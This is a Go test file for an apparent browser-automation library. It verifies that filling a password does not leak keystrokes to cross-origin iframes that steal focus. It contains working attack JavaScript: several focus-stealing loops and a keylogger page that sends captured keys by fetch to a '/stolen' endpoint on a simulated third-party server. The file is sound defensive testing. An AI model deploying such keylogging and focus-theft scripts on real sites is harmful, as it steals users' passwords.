//go:build unix

package browser_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/poscrape/poscrape/browser"
)

// thieves are the ways in which a frame takes the focus: what it needs, and its script.
var thieves = map[string]string{
	"again and again":   "setInterval(() => trap.focus(), 1)",
	"as fast as it can": "const c = new MessageChannel(); c.port1.onmessage = () => { trap.focus(); c.port2.postMessage(0) }; c.port2.postMessage(0)",
	"by the window":     "setInterval(() => { window.focus(); trap.focus() }, 5)",
	"now and then":      "setInterval(() => trap.focus(), 40)",
	"by autofocus":      "setInterval(() => { const f = document.createElement('iframe'); f.srcdoc = '<input autofocus>'; document.body.append(f); f.contentWindow?.focus() }, 20)",
}

// stolen is what a thief's frame has heard.
type stolen struct {
	mu   sync.Mutex
	keys string
}

func (s *stolen) hear(_ http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if heard := r.URL.Query().Get("k"); len(heard) > len(s.keys) {
		s.keys = heard
	}
}

func (s *stolen) heard() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.keys
}

// steal returns the page of a frame that takes the focus.
func steal(way string) string {
	return `<!doctype html><input id=trap><script>let got = ""; const hear = (e) => { got += e.key?.length === 1 ? e.key : e.data ?? ""; fetch("/stolen?k=" + encodeURIComponent(got), { keepalive: true }) };
		addEventListener("keydown", hear, true); addEventListener("input", hear, true);` + way + `</script>`
}

// TestAThiefGetsNoSecret fills in a password beside frames of another site that take the focus, wherever in the
// page these are, and also where the page goes by keys.
func TestAThiefGetsNoSecret(t *testing.T) {
	t.Parallel()
	const secret = "hunter2-correct-horse"
	frame := `<iframe src="AD" style="border:0;width:1px;height:1px"></iframe>`
	late := `const add = (n) => { const f = document.createElement("iframe"); f.src = "AD"; document.body.append(f) };`
	for name, page := range map[string]string{
		"beside it":         frame + `<input id=p type=password>`,
		"an object":         `<object data="AD"></object><embed src="AD"><input id=p type=password>`,
		"in a shadow root":  `<x-a></x-a><input id=p type=password><script>document.querySelector("x-a").attachShadow({ mode: "open" }).innerHTML = '` + frame + `'</script>`,
		"late":              `<input id=p type=password><script>` + late + `p.onfocus = add; p.oninput = add</script>`,
		"with keys":         frame + `<input id=p type=password onkeydown="0">`,
		"late with keys":    `<input id=p type=password onkeyup="0"><script>` + late + `p.onkeydown = add</script>`,
		"a frame with keys": `<iframe srcdoc="<input id=p type=password onkeydown=0>"></iframe>` + frame,
		"around a host's":   `<iframe src="NESTED"></iframe>` + frame,
	} {
		for kind, way := range thieves {
			t.Run(name+" "+kind, func(t *testing.T) {
				t.Parallel()
				var got stolen
				ad := serve(t, map[string]http.HandlerFunc{"/ad": html(steal(way)), "/stolen": got.hear})
				var url string
				fill := strings.NewReplacer("AD", elsewhere(ad)+"/ad", "NESTED", "URL/nested")
				url = serve(t, map[string]http.HandlerFunc{
					"/": func(w http.ResponseWriter, r *http.Request) {
						html("<!doctype html>"+strings.ReplaceAll(fill.Replace(page), "URL", strings.Replace(url, "127.0.0.1", "localhost", 1)))(w, r)
					},
					"/nested": html(fill.Replace(frame + `<input id=p type=password onkeydown="0">`)),
				})
				b := share(t)
				if os.Getenv("FULL") != "" {
					b = share(t, func(c *browser.Config) { c.Chrome, _ = browser.Find(t.Context(), "/usr/bin/chromium", false) })
				}
				tab := b.Tab()
				open(t, tab, url+"/")
				ctx, cancel := context.WithTimeout(t.Context(), actTimeout)
				defer cancel()
				err := tab.Fill(ctx, browser.Target{Selector: "#p", Origins: []string{url, strings.Replace(url, "127.0.0.1", "localhost", 1)}}, secret)
				var key *browser.KeyError
				heard := got.heard()
				fmt.Printf("%s, %s: %v; stolen %q\n", name, kind, err, heard)
				if len(heard) > 1 || heard != "" && !errors.As(err, &key) || err != nil && !errors.As(err, &key) {
					t.Errorf("%v; the frame got %q", err, heard)
				}
			})
		}
	}
}
